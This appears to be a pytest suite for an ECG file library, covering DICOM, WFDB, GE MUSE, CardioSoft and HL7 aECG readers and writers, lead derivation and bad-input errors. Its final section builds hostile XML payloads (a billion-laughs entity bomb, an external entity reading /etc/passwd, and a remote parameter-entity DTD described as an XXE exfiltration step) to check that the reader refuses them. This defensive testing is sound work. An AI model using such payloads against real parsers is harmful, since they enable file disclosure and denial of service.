"""ECG readers and writers: the real pydicom 12-lead ECG, round trips through every format,
hand-written vendor XML samples (GE MUSE, GE CardioSoft, HL7 aECG), lead naming and derivation,
and clear errors for bad input."""
from __future__ import annotations

import base64
import json
import shutil
import zlib

import numpy as np
import pydicom
import pytest
from pydicom import examples

from mmcardio.cli import main
from mmcardio.datasets.readers.ecg import normalize_lead_name, read_ecg
from mmcardio.datasets.writers.ecg import FORMATS, write_ecg
from mmcardio.errors import ReaderError
from mmcardio.records import ECG, STANDARD_LEADS

LIMB_FROM_I_II = ("III", "aVR", "aVL", "aVF")
RECORDED_8 = ("I", "II", "V1", "V2", "V3", "V4", "V5", "V6")
QUANTUM_MV = 1e-3  # 1 uV: integer formats store 1 uV per unit


def einthoven_goldberger(lead_i: np.ndarray, lead_ii: np.ndarray) -> dict[str, np.ndarray]:
    return {"III": lead_ii - lead_i, "aVR": -(lead_i + lead_ii) / 2,
            "aVL": lead_i - lead_ii / 2, "aVF": lead_ii - lead_i / 2}


def synthetic_ecg(fs: float = 500.0, seconds: float = 2.0) -> ECG:
    """12 leads of sums of sines in mV whose limb leads obey Einthoven/Goldberger."""
    t = np.arange(int(fs * seconds)) / fs
    rng = np.random.default_rng(7)
    leads = {}
    for name in RECORDED_8:
        amp, freq, phase = rng.uniform([0.05, 0.5, 0.0], [0.9, 30.0, 6.0], size=(3, 3)).T
        leads[name] = sum(a * np.sin(2 * np.pi * f * t + p) for a, f, p in zip(amp, freq, phase))
    leads.update(einthoven_goldberger(leads["I"], leads["II"]))
    signal = np.stack([leads[name] for name in STANDARD_LEADS]).astype(np.float32)
    return ECG(signal=signal, fs=fs, lead_names=list(STANDARD_LEADS))


# --- the real DICOM ECG shipped with pydicom ------------------------------------------------------

def test_pydicom_ecg_reads_as_12_physiological_leads_in_mv():
    ecg = read_ecg(examples.get_path("waveform"))
    assert ecg.lead_names == list(STANDARD_LEADS)
    assert (ecg.fs, ecg.n_samples, ecg.duration_s, ecg.units) == (1000.0, 10000, 10.0, "mV")
    assert ecg.signal.dtype == np.float32 and ecg.missing_leads == [] and ecg.derived_leads == []
    assert np.abs(ecg.signal).max() < 5.0
    peak_to_peak = np.ptp(ecg.signal, axis=1)
    assert np.all((peak_to_peak > 0.4) & (peak_to_peak < 3.0)), peak_to_peak


def test_pydicom_ecg_equals_raw_samples_times_sensitivity():
    ds = examples.waveform
    group = ds.WaveformSequence[0]  # RHYTHM, 12 channels x 10000 samples
    channel = group.ChannelDefinitionSequence[1]
    assert channel.ChannelSourceSequence[0].CodeMeaning == "Lead II"
    assert channel.ChannelSensitivityUnitsSequence[0].CodeValue == "uV"
    raw = np.frombuffer(group.WaveformData, "<i2").reshape(10000, 12)[:, 1]
    expected_mv = (raw * float(channel.ChannelSensitivity) * float(channel.ChannelSensitivityCorrectionFactor)
                   + float(channel.ChannelBaseline)) / 1000.0
    ecg = read_ecg(examples.get_path("waveform"))
    np.testing.assert_allclose(ecg.lead("II"), expected_mv, atol=1e-6)
    np.testing.assert_allclose(ecg.lead("II"), ds.waveform_array(0)[:, 1] / 1000.0, atol=1e-6)


def test_dicom_coded_inverted_avr_and_mdc_codes(tmp_path):
    ds = pydicom.dcmread(examples.get_path("waveform"))
    group = ds.WaveformSequence[0]
    samples = np.frombuffer(group.WaveformData, "<i2").reshape(10000, 12).copy()
    samples[:, 3] = -samples[:, 3]  # store aVR inverted, coded as SCP-ECG lead 65 "-aVR"
    group.WaveformData = samples.astype("<i2").tobytes()
    source = group.ChannelDefinitionSequence[3].ChannelSourceSequence[0]
    source.CodeValue, source.CodeMeaning = "5.6.3-9-65", "Lead -aVR"
    lead_i = group.ChannelDefinitionSequence[0].ChannelSourceSequence[0]
    lead_i.CodingSchemeDesignator, lead_i.CodeValue, lead_i.CodeMeaning = "MDC", "2:1", "Lead I"
    ds.save_as(tmp_path / "inverted.dcm")
    original = read_ecg(examples.get_path("waveform"))
    ecg = read_ecg(tmp_path / "inverted.dcm")
    assert ecg.lead_names == list(STANDARD_LEADS)
    np.testing.assert_array_equal(ecg.lead("aVR"), original.lead("aVR"))
    np.testing.assert_array_equal(ecg.lead("I"), original.lead("I"))


# --- round trips through every writer -----------------------------------------------------------

SUFFIXES = {"wfdb": "", "dicom": ".dcm", "muse": ".xml", "cardiosoft": ".xml", "aecg": ".xml",
            "npy": ".npy", "csv": ".csv"}


@pytest.mark.parametrize("fmt", FORMATS)
def test_round_trip_within_one_microvolt(tmp_path, fmt):
    ecg = synthetic_ecg()
    written = write_ecg(ecg, tmp_path / f"rec{SUFFIXES[fmt]}", format=fmt)
    back = read_ecg(written, fs=ecg.fs if fmt in ("npy", "csv") else None)
    assert back.lead_names == list(STANDARD_LEADS)
    assert back.fs == ecg.fs and back.n_samples == ecg.n_samples and back.units == "mV"
    recorded = [STANDARD_LEADS.index(n) for n in STANDARD_LEADS if n not in back.derived_leads]
    error = np.abs(back.signal - ecg.signal)
    assert error[recorded].max() <= QUANTUM_MV / 2 + 1e-6
    assert error.max() <= QUANTUM_MV + 1e-6  # a derived lead adds up two quantized leads
    assert back.derived_leads == (list(LIMB_FROM_I_II) if fmt == "muse" else [])


def test_muse_writes_eight_leads_and_reader_derives_the_rest(tmp_path):
    path = write_ecg(synthetic_ecg(), tmp_path / "muse.xml", format="muse")
    text = path.read_text()
    assert text.count("<LeadData>") == 8 and "<LeadID>III</LeadID>" not in text
    back = read_ecg(path)
    for name, values in einthoven_goldberger(back.lead("I"), back.lead("II")).items():
        np.testing.assert_allclose(back.lead(name), values, atol=1e-6)
    assert back.derived_leads == list(LIMB_FROM_I_II) and back.missing_leads == []


def test_dicom_writer_output_is_valid_for_pydicom(tmp_path):
    ecg = synthetic_ecg()
    ds = pydicom.dcmread(write_ecg(ecg, tmp_path / "ecg.dcm"))  # no force: preamble + file meta
    assert ds.SOPClassUID == "1.2.840.10008.5.1.4.1.1.9.1.1" == ds.file_meta.MediaStorageSOPClassUID
    channels = ds.WaveformSequence[0].ChannelDefinitionSequence
    assert [ch.ChannelSourceSequence[0].CodeMeaning for ch in channels] == [f"Lead {n}" for n in STANDARD_LEADS]
    assert channels[2].ChannelSourceSequence[0].CodeValue == "5.6.3-9-61"  # III
    np.testing.assert_allclose(ds.waveform_array(0).T / 1000.0, ecg.signal, atol=QUANTUM_MV / 2 + 1e-6)
    long = ECG(np.tile(ecg.signal, (1, 20)), ecg.fs, list(STANDARD_LEADS))  # 20000 > 16384 samples
    general = pydicom.dcmread(write_ecg(long, tmp_path / "long.dcm"))
    assert general.SOPClassUID == "1.2.840.10008.5.1.4.1.1.9.1.2"  # General ECG Waveform Storage


def test_wfdb_record_reads_from_hea_dat_or_stem(tmp_path):
    ecg = synthetic_ecg()
    header = write_ecg(ecg, tmp_path / "rec.hea")
    assert header == tmp_path / "rec.hea" and (tmp_path / "rec.dat").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rec.dat", "rec.hea"]
    for path in (header, tmp_path / "rec.dat", tmp_path / "rec"):
        np.testing.assert_allclose(read_ecg(path).signal, ecg.signal, atol=QUANTUM_MV / 2 + 1e-6)


def test_wfdb_units_from_header_are_converted(tmp_path):
    (tmp_path / "uv.hea").write_text("uv 2 250 4\nuv.dat 16 1/uV 16 0 0 0 0 I\nuv.dat 16 1/uV 16 0 0 0 0 II\n")
    np.array([[100, 200], [-300, 400], [500, -600], [0, 0]], "<i2").tofile(tmp_path / "uv.dat")
    ecg = read_ecg(tmp_path / "uv", min_leads=2)
    np.testing.assert_allclose(ecg.lead("I"), [0.1, -0.3, 0.5, 0.0])
    np.testing.assert_allclose(ecg.lead("II"), [0.2, 0.4, -0.6, 0.0])
    assert ecg.derived_leads == list(LIMB_FROM_I_II) and ecg.fs == 250.0


def test_numpy_layouts_and_units(tmp_path):
    ecg = synthetic_ecg()
    np.save(tmp_path / "samples_by_leads_uv.npy", ecg.signal.T * 1000.0)
    back = read_ecg(tmp_path / "samples_by_leads_uv.npy", fs=500, units="uV")
    np.testing.assert_allclose(back.signal, ecg.signal, atol=1e-5)
    eight = ecg.signal[[STANDARD_LEADS.index(n) for n in RECORDED_8]]
    np.save(tmp_path / "eight.npy", eight)
    back = read_ecg(tmp_path / "eight.npy", fs=500)
    assert back.derived_leads == list(LIMB_FROM_I_II)
    np.testing.assert_allclose(back.lead("aVF"), ecg.lead("aVF"), atol=1e-5)


# --- hand-written vendor samples -----------------------------------------------------------------

MUSE_LEAD = """      <LeadData>
         <LeadByteCountTotal>{nbytes}</LeadByteCountTotal>
         <LeadTimeOffset>0</LeadTimeOffset>
         <LeadSampleCountTotal>{count}</LeadSampleCountTotal>
         <LeadAmplitudeUnitsPerBit>4.88</LeadAmplitudeUnitsPerBit>
         <LeadAmplitudeUnits>MICROVOLTS</LeadAmplitudeUnits>
         <LeadHighLimit>32767</LeadHighLimit>
         <LeadLowLimit>-32768</LeadLowLimit>
         <LeadID>{lead}</LeadID>
         <LeadOffsetFirstSample>0</LeadOffsetFirstSample>
         <FirstSampleBaseline>0</FirstSampleBaseline>
         <LeadSampleSize>2</LeadSampleSize>
         <LeadOff>FALSE</LeadOff>
         <BaselineSway>FALSE</BaselineSway>
         <LeadDataCRC32>{crc}</LeadDataCRC32>
         <WaveFormData>{data}</WaveFormData>
      </LeadData>
"""

MUSE_WAVEFORM = """   <Waveform>
      <WaveformType>{kind}</WaveformType>
      <WaveformStartTime>0</WaveformStartTime>
      <NumberofLeads>8</NumberofLeads>
      <SampleType>CONTINUOUS_SAMPLES</SampleType>
      {rate}
      <HighPassFilter>16</HighPassFilter>
      <LowPassFilter>150</LowPassFilter>
      <ACFilter>50</ACFilter>
{leads}   </Waveform>
"""

MUSE_DOCUMENT = """<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE RestingECG SYSTEM "restecg.dtd">
<RestingECG>
   <MuseInfo><MuseVersion>9.0.9.18167</MuseVersion></MuseInfo>
   <PatientDemographics><PatientID>000123</PatientID><PatientLastName>MÜLLER</PatientLastName></PatientDemographics>
   <TestDemographics><AcquisitionDevice>MAC55</AcquisitionDevice><AcquisitionDate>03-01-2024</AcquisitionDate></TestDemographics>
{waveforms}</RestingECG>
"""


def muse_counts(n: int, seed: int) -> dict[str, np.ndarray]:
    t = np.arange(n) / 250.0
    return {lead: np.round(180 * np.sin(2 * np.pi * 1.1 * t + k + seed) + 40 * np.sin(2 * np.pi * 9 * t))
            .astype("<i2") for k, lead in enumerate(RECORDED_8)}


def muse_waveform(kind: str, counts: dict[str, np.ndarray], rate: str, short_by: int = 0) -> str:
    leads = "".join(
        MUSE_LEAD.format(nbytes=values.nbytes, count=values.size, lead=lead, crc=zlib.crc32(values.tobytes()),
                         data=base64.encodebytes(values[: values.size - short_by].tobytes()).decode("ascii"))
        for lead, values in counts.items())
    return MUSE_WAVEFORM.format(kind=kind, rate=rate, leads=leads)


def write_muse_sample(path, rate="<SampleBase>250</SampleBase>\n      <SampleExponent>0</SampleExponent>",
                      short_by=0):
    rhythm = muse_counts(2500, seed=0)
    median = muse_waveform("Median", muse_counts(300, seed=3), "<SampleBase>500</SampleBase>")
    document = MUSE_DOCUMENT.format(waveforms=median + muse_waveform("Rhythm", rhythm, rate, short_by))
    path.write_bytes(document.encode("iso-8859-1"))
    return rhythm


def test_hand_written_muse_sample(tmp_path):
    counts = write_muse_sample(tmp_path / "muse.xml")
    ecg = read_ecg(tmp_path / "muse.xml")
    assert ecg.fs == 250.0 and ecg.n_samples == 2500  # the Rhythm waveform, not the Median
    for lead, values in counts.items():
        np.testing.assert_allclose(ecg.lead(lead), values * 4.88e-3, atol=1e-5)
    for name, values in einthoven_goldberger(counts["I"] * 4.88e-3, counts["II"] * 4.88e-3).items():
        np.testing.assert_allclose(ecg.lead(name), values, atol=1e-5)
    assert ecg.derived_leads == list(LIMB_FROM_I_II) and ecg.lead_names == list(STANDARD_LEADS)


CARDIOSOFT_DOCUMENT = """<?xml version="1.0" encoding="ISO-8859-1"?>
<CardiologyXML>
  <ObservationType>RestECG</ObservationType>
  <ObservationDateTime><Hour>10</Hour><Minute>15</Minute><Day>1</Day><Month>3</Month><Year>2024</Year></ObservationDateTime>
  <RestingECGMeasurements>
    <VentricularRate units="BPM">64</VentricularRate>
    <MedianSamples>
      <NumberOfLeads>12</NumberOfLeads>
      <SampleRate units="Hz">500</SampleRate>
      <ChannelSampleCountTotal>4</ChannelSampleCountTotal>
      <Resolution units="uVperLsb">5</Resolution>
{median}    </MedianSamples>
  </RestingECGMeasurements>
  <FilterSetting><CubicSpline>Yes</CubicSpline><Filter50Hz>Yes</Filter50Hz><LowPass units="Hz">150</LowPass><HighPass units="Hz">0.04</HighPass></FilterSetting>
  <StripData>
    <NumberOfLeads>12</NumberOfLeads>
    <SampleRate units="Hz">500</SampleRate>
    <ChannelSampleCountTotal>{count}</ChannelSampleCountTotal>
    <Resolution units="uVperLsb">5</Resolution>
{strip}  </StripData>
</CardiologyXML>
"""

CARDIOSOFT_LEADS = ("I", "II", "III", "aVR", "aVL", "aVF", "V1", "V2", "V3", "V4", "V5", "V6")


def cardiosoft_data(values: np.ndarray, lead: str) -> str:
    rows = [",".join(str(v) for v in values[i:i + 16]) for i in range(0, len(values), 16)]
    return f'      <WaveformData lead="{lead}">\n' + ",\n".join(rows) + "\n      </WaveformData>\n"


def test_hand_written_cardiosoft_sample(tmp_path):
    rng = np.random.default_rng(1)
    counts = {lead: rng.integers(-300, 300, 1000) for lead in CARDIOSOFT_LEADS}
    median = "".join(cardiosoft_data(np.array([1, 2, 3, 4]), lead) for lead in CARDIOSOFT_LEADS)
    strip = "".join(cardiosoft_data(values, lead) for lead, values in counts.items())
    (tmp_path / "ukb.xml").write_bytes(
        CARDIOSOFT_DOCUMENT.format(median=median, strip=strip, count=1000).encode("iso-8859-1"))
    ecg = read_ecg(tmp_path / "ukb.xml")
    assert ecg.fs == 500.0 and ecg.n_samples == 1000 and ecg.lead_names == list(STANDARD_LEADS)
    for lead, values in counts.items():
        np.testing.assert_allclose(ecg.lead(lead), values * 5e-3, atol=1e-6)  # 5 uV per LSB
    assert ecg.derived_leads == [] and ecg.missing_leads == []


AECG_DOCUMENT = """<?xml version="1.0" encoding="UTF-8"?>
<v3:AnnotatedECG xmlns:v3="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" classCode="OBS" moodCode="EVN">
  <v3:id root="61d1a24f-b47e-41aa-ae95-f8ac302f4eeb"/>
  <v3:code code="93000" codeSystem="2.16.840.1.113883.6.12" codeSystemName="CPT-4"/>
  <v3:effectiveTime><v3:low value="20240301101500"/><v3:high value="20240301101504"/></v3:effectiveTime>
  <v3:component>
    <v3:series classCode="OBSSER" moodCode="EVN">
      <v3:code code="RHYTHM" codeSystem="2.16.840.1.113883.5.4" codeSystemName="ActCode"/>
      <v3:effectiveTime><v3:low value="20240301101500"/><v3:high value="20240301101504"/></v3:effectiveTime>
      <v3:component>
        <v3:sequenceSet classCode="OBSCOR" moodCode="EVN">
          <v3:component>
            <v3:sequence classCode="OBS" moodCode="EVN">
              <v3:code code="TIME_ABSOLUTE" codeSystem="2.16.840.1.113883.5.4" codeSystemName="ActCode"/>
              <v3:value xsi:type="GLIST_TS">
                <v3:head value="20240301101500.000"/>
                <v3:increment value="4" unit="ms"/>
              </v3:value>
            </v3:sequence>
          </v3:component>
{leads}        </v3:sequenceSet>
      </v3:component>
      <v3:derivation>
        <v3:derivedSeries classCode="OBSSER" moodCode="EVN">
          <v3:code code="REPRESENTATIVE_BEAT" codeSystem="2.16.840.1.113883.5.4" codeSystemName="ActCode"/>
          <v3:component>
            <v3:sequenceSet classCode="OBSCOR" moodCode="EVN">
              <v3:component>
                <v3:sequence classCode="OBS" moodCode="EVN">
                  <v3:code code="TIME_RELATIVE" codeSystem="2.16.840.1.113883.5.4" codeSystemName="ActCode"/>
                  <v3:value xsi:type="GLIST_PQ"><v3:head value="0" unit="ms"/><v3:increment value="2" unit="ms"/></v3:value>
                </v3:sequence>
              </v3:component>
            </v3:sequenceSet>
          </v3:component>
        </v3:derivedSeries>
      </v3:derivation>
    </v3:series>
  </v3:component>
</v3:AnnotatedECG>
"""

AECG_LEAD = """          <v3:component>
            <v3:sequence classCode="OBS" moodCode="EVN">
              <v3:code code="{code}" codeSystem="2.16.840.1.113883.6.24" codeSystemName="MDC"/>
              <v3:value xsi:type="SLIST_PQ">
                <v3:origin value="0.1" unit="mV"/>
                <v3:scale value="0.005" unit="mV"/>
                <v3:digits>{digits}</v3:digits>
              </v3:value>
            </v3:sequence>
          </v3:component>
"""

AECG_CODES = ("MDC_ECG_LEAD_I", "MDC_ECG_LEAD_II", "MDC_ECG_LEAD_III", "MDC_ECG_LEAD_AVR",
              "MDC_ECG_LEAD_AVL", "MDC_ECG_LEAD_AVF", "MDC_ECG_LEAD_V1", "MDC_ECG_LEAD_V2",
              "MDC_ECG_LEAD_V3", "MDC_ECG_LEAD_V4", "MDC_ECG_LEAD_V5", "MDC_ECG_LEAD_V6",
              "MDC_ECG_LEAD_V4R")


def write_aecg_sample(path, short_lead: str | None = None) -> dict[str, np.ndarray]:
    rng = np.random.default_rng(2)
    digits = {code: rng.integers(-200, 200, 1000 - 10 * (code == short_lead)) for code in AECG_CODES}
    leads = "".join(AECG_LEAD.format(code=code, digits=" ".join(map(str, values)))
                    for code, values in digits.items())
    path.write_text(AECG_DOCUMENT.format(leads=leads), encoding="utf-8")
    return digits


def test_hand_written_aecg_sample(tmp_path):
    digits = write_aecg_sample(tmp_path / "aecg.xml")
    ecg = read_ecg(tmp_path / "aecg.xml")
    assert ecg.fs == 250.0 and ecg.n_samples == 1000  # 4 ms increment; rhythm, not the median beat
    assert ecg.lead_names == list(STANDARD_LEADS)  # V4R is not a standard lead: dropped
    for code, name in zip(AECG_CODES, STANDARD_LEADS):
        np.testing.assert_allclose(ecg.lead(name), 0.1 + 0.005 * digits[code], atol=1e-6)


# --- lead names and derivation -------------------------------------------------------------------

@pytest.mark.parametrize("label, expected", [
    ("I", ("I", False)), ("LEAD_I", ("I", False)), ("Lead I", ("I", False)),
    ("Lead I (Einthoven)", ("I", False)), ("MDC_ECG_LEAD_I", ("I", False)), ("DII", ("II", False)),
    ("lead iii", ("III", False)), ("MDC_ECG_LEAD_AVR", ("aVR", False)), ("avr", ("aVR", False)),
    ("AVL", ("aVL", False)), ("Lead aVF", ("aVF", False)), ("-aVR", ("aVR", True)),
    ("Lead -aVR", ("aVR", True)), ("aVRneg", ("aVR", True)), ("v1", ("V1", False)),
    ("C1", ("V1", False)), ("C2", ("V2", False)), ("c3", ("V3", False)), ("C4", ("V4", False)),
    ("C5", ("V5", False)), ("C6", ("V6", False)), ("MDC_ECG_LEAD_V6", ("V6", False)),
    ("V4R", None), ("MDC_ECG_LEAD_V4R", None), ("Lead I (Frank)", None), ("MLII", None), ("X", None),
])
def test_lead_name_table(label, expected):
    assert normalize_lead_name(label) == expected


def write_csv(path, columns: dict[str, np.ndarray]) -> None:
    rows = np.stack(list(columns.values()), axis=1)
    lines = [",".join(columns)] + [",".join(f"{v:.6f}" for v in row) for row in rows]
    path.write_text("\n".join(lines) + "\n")


def test_limb_leads_derived_and_missing_precordials_reported(tmp_path):
    wave = np.sin(2 * np.pi * np.arange(600) / 100)
    write_csv(tmp_path / "six.csv", {"Lead I": 0.4 + 0.1 * wave, "LEAD_II": 1.0 + 0.2 * wave,
                                     "C1": wave, "C2": -wave, "v3": 0.5 * wave, "MDC_ECG_LEAD_V4": wave})
    ecg = read_ecg(tmp_path / "six.csv", fs=250)
    assert ecg.lead_names == ["I", "II", "III", "aVR", "aVL", "aVF", "V1", "V2", "V3", "V4"]
    assert ecg.derived_leads == list(LIMB_FROM_I_II) and ecg.missing_leads == ["V5", "V6"]
    assert ecg.signal.shape == (10, 600)  # missing leads are not zero rows
    at_zero = {name: round(float(ecg.lead(name)[0]), 6) for name in ("III", "aVR", "aVL", "aVF")}
    assert at_zero == {"III": 0.6, "aVR": -0.7, "aVL": -0.1, "aVF": 0.8}


def test_inverted_avr_is_flipped_and_counts_as_recorded(tmp_path):
    wave = np.sin(2 * np.pi * np.arange(500) / 125)
    lead_i, lead_ii = 0.3 * wave, 0.9 * wave + 0.05
    write_csv(tmp_path / "neg.csv", {"I": lead_i, "II": lead_ii, "III": lead_ii - lead_i,
                                     "-aVR": (lead_i + lead_ii) / 2, "aVL": lead_i - lead_ii / 2,
                                     "aVF": lead_ii - lead_i / 2, "V1": wave, "V2": wave})
    ecg = read_ecg(tmp_path / "neg.csv", fs=500)
    np.testing.assert_allclose(ecg.lead("aVR"), -(lead_i + lead_ii) / 2, atol=1e-6)
    assert ecg.derived_leads == [] and ecg.missing_leads == ["V3", "V4", "V5", "V6"]


def test_single_lead_device_with_min_leads_1(tmp_path):
    write_csv(tmp_path / "watch.csv", {"Lead I": np.sin(np.arange(300) / 10)})
    ecg = read_ecg(tmp_path / "watch.csv", fs=300, min_leads=1)
    assert ecg.lead_names == ["I"] and ecg.derived_leads == []
    assert ecg.missing_leads == [n for n in STANDARD_LEADS if n != "I"]


# --- bad input -----------------------------------------------------------------------------------

def truncated_xml(tmp_path):
    write_muse_sample(tmp_path / "cut.xml")
    text = (tmp_path / "cut.xml").read_bytes()
    (tmp_path / "cut.xml").write_bytes(text[: len(text) // 2])
    return tmp_path / "cut.xml", {}


def truncated_muse_samples(tmp_path):
    write_muse_sample(tmp_path / "short.xml", short_by=100)
    return tmp_path / "short.xml", {}


def truncated_wfdb(tmp_path):
    write_ecg(synthetic_ecg(), tmp_path / "rec.hea")
    data = (tmp_path / "rec.dat").read_bytes()
    (tmp_path / "rec.dat").write_bytes(data[: len(data) // 3])
    return tmp_path / "rec.hea", {}


def truncated_dicom(tmp_path):
    data = examples.get_path("waveform").read_bytes()
    (tmp_path / "cut.dcm").write_bytes(data[: int(len(data) * 0.6)])
    return tmp_path / "cut.dcm", {}


def dicom_without_waveform(tmp_path):
    shutil.copy(examples.get_path("ct"), tmp_path / "ct.dcm")
    return tmp_path / "ct.dcm", {}


def nan_samples(tmp_path):
    signal = synthetic_ecg().signal.copy()
    signal[STANDARD_LEADS.index("V3"), 100:107] = np.nan
    np.save(tmp_path / "nan.npy", signal)
    return tmp_path / "nan.npy", {"fs": 500}


def flat_line(tmp_path):
    np.save(tmp_path / "flat.npy", np.random.default_rng(0).uniform(-0.004, 0.004, (12, 1000)))
    return tmp_path / "flat.npy", {"fs": 500}


def three_leads(tmp_path):
    wave = np.sin(np.arange(400) / 7)
    write_csv(tmp_path / "three.csv", {"I": wave, "II": 2 * wave, "III": wave})
    return tmp_path / "three.csv", {"fs": 500, "min_leads": 8}


def npy_without_fs(tmp_path):
    np.save(tmp_path / "nofs.npy", synthetic_ecg().signal)
    return tmp_path / "nofs.npy", {}


def muse_without_rate(tmp_path):
    write_muse_sample(tmp_path / "norate.xml", rate="")
    return tmp_path / "norate.xml", {}


def conflicting_fs(tmp_path):
    shutil.copy(examples.get_path("waveform"), tmp_path / "ecg.dcm")
    return tmp_path / "ecg.dcm", {"fs": 500}


def mismatched_lengths(tmp_path):
    write_aecg_sample(tmp_path / "ragged.xml", short_lead="MDC_ECG_LEAD_V2")
    return tmp_path / "ragged.xml", {}


def unknown_xml_root(tmp_path):
    (tmp_path / "philips.xml").write_text('<?xml version="1.0"?>\n<restingecgdata><waveforms/></restingecgdata>\n')
    return tmp_path / "philips.xml", {}


BAD_INPUTS = [
    (truncated_xml, "malformed or truncated XML"),
    (truncated_muse_samples, "holds 2400 samples, LeadSampleCountTotal says 2500"),
    (truncated_wfdb, "a truncated file or a corrupt header"),
    (truncated_dicom, "corrupt or truncated DICOM"),
    (dicom_without_waveform, "DICOM without waveform data"),
    (nan_samples, "lead V3 has 7 NaN"),
    (flat_line, "flat line"),
    (three_leads, "3 leads (I, II, III), fewer than the 8 asked for (min_leads)"),
    (npy_without_fs, "sampling rate unknown: pass fs"),
    (muse_without_rate, "sampling rate unknown: pass fs"),
    (conflicting_fs, "the file states 1000 Hz but fs=500 was passed"),
    (mismatched_lengths, "leads have different lengths"),
    (unknown_xml_root, "unknown XML root <restingecgdata>"),
]


@pytest.mark.parametrize("make, message", BAD_INPUTS, ids=[make.__name__ for make, _ in BAD_INPUTS])
def test_bad_input_raises_reader_error_naming_the_file(tmp_path, make, message):
    path, kwargs = make(tmp_path)
    with pytest.raises(ReaderError) as caught:
        read_ecg(path, **kwargs)
    assert message in str(caught.value)
    assert str(caught.value).startswith(str(path.with_suffix(".hea") if path.suffix == ".dat" else path))


def test_cli_read_bad_file_exits_2_with_a_message(tmp_path, capsys):
    path, _ = truncated_xml(tmp_path)
    assert main(["read", str(path), "--json"]) == 2
    out, err = capsys.readouterr()
    assert json.loads(out)["file"] == str(path) and "malformed or truncated XML" in err
    assert "Traceback" not in err


def test_cli_read_pydicom_ecg(capsys):
    assert main(["read", str(examples.get_path("waveform")), "--json"]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert summary["modality"] == "ecg" and summary["units"] == "mV"
    assert len(summary["lead_names"]) == 12 and summary["duration_s"] == 10.0
    assert summary["shape"] == [12, 10000] and summary["fs_hz"] == 1000.0


# --- XML safety: entity expansion and external entities are refused (defusedxml) ----------------

#: "Billion laughs": 10 levels of 10 references expand to 10^9 characters (1 GB) if honoured.
BILLION_LAUGHS = '<!DOCTYPE {root} [<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
EXTERNAL_ENTITY = '<!DOCTYPE {root} [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'
#: A parameter entity pulls a remote DTD into the internal subset (an XXE exfiltration step).
PARAMETER_ENTITY = '<!DOCTYPE {root} [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>'
XML_ROOTS = {"muse": "RestingECG", "cardiosoft": "CardiologyXML", "aecg": "AnnotatedECG"}


def hostile_xml(tmp_path, fmt: str, doctype: str, reference: str):
    """A real `fmt` export (our writer) with `doctype` declared and `reference` used in a lead label
    (the text a reader would expand and keep)."""
    path = write_ecg(synthetic_ecg(seconds=1.0), tmp_path / f"{fmt}.xml", format=fmt)
    text = path.read_text()
    text = text.replace('<!DOCTYPE RestingECG SYSTEM "restecg.dtd">\n', "")  # ours, replaced below
    head, body = text.split("?>", 1)
    label = {"muse": "<LeadID>I</LeadID>", "cardiosoft": 'lead="I"', "aecg": 'code="MDC_ECG_LEAD_I"'}[fmt]
    assert label in body
    body = body.replace(label, label.replace("I<", f"I{reference}<").replace('I"', f'I{reference}"'), 1)
    path.write_text(f"{head}?>\n{doctype.format(root=XML_ROOTS[fmt])}{body}")
    return path


@pytest.mark.parametrize("fmt", list(XML_ROOTS))
@pytest.mark.parametrize("doctype, reference, names", [
    (BILLION_LAUGHS, "&a9;", "a0"), (EXTERNAL_ENTITY, "&a9;", "file:///etc/passwd"),
    (PARAMETER_ENTITY, "", "http://127.0.0.1:9/evil.dtd")], ids=["billion-laughs", "external", "parameter"])
def test_xml_entities_are_refused_naming_the_file_and_why(tmp_path, fmt, doctype, reference, names):
    import tracemalloc

    path = hostile_xml(tmp_path, fmt, doctype, reference)
    tracemalloc.start()
    try:
        with pytest.raises(ReaderError) as caught:
            read_ecg(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    err = caught.value
    assert err.path == str(path) and err.field == "DOCTYPE"
    assert "declares entities or external references" in err.problem and names in err.problem
    assert peak < 20e6  # refused while parsing the DOCTYPE: nothing was expanded


@pytest.mark.parametrize("fmt", list(XML_ROOTS))
def test_the_same_files_without_the_entities_read(tmp_path, fmt):
    """The hostile files above differ from a readable export only by their DOCTYPE: a DOCTYPE
    naming an external DTD (as GE MUSE writes it) is read, and never fetched."""
    path = hostile_xml(tmp_path, fmt, '<!DOCTYPE {root} SYSTEM "http://127.0.0.1:9/never-fetched.dtd">\n', "")
    ecg = read_ecg(path)
    assert ecg.signal.shape[0] == 12 and ecg.fs == 500.0


def test_xml_larger_than_any_ecg_export_is_refused_before_parsing(tmp_path):
    from mmcardio.datasets.readers.ecg_xml import MAX_XML_BYTES

    path = write_ecg(synthetic_ecg(seconds=1.0), tmp_path / "big.xml", format="muse")
    with open(path, "r+b") as fh:
        fh.truncate(MAX_XML_BYTES + 1)  # sparse: no disk is spent, the size is what counts
    with pytest.raises(ReaderError, match="bytes of XML, over the") as caught:
        read_ecg(path)
    assert caught.value.path == str(path)
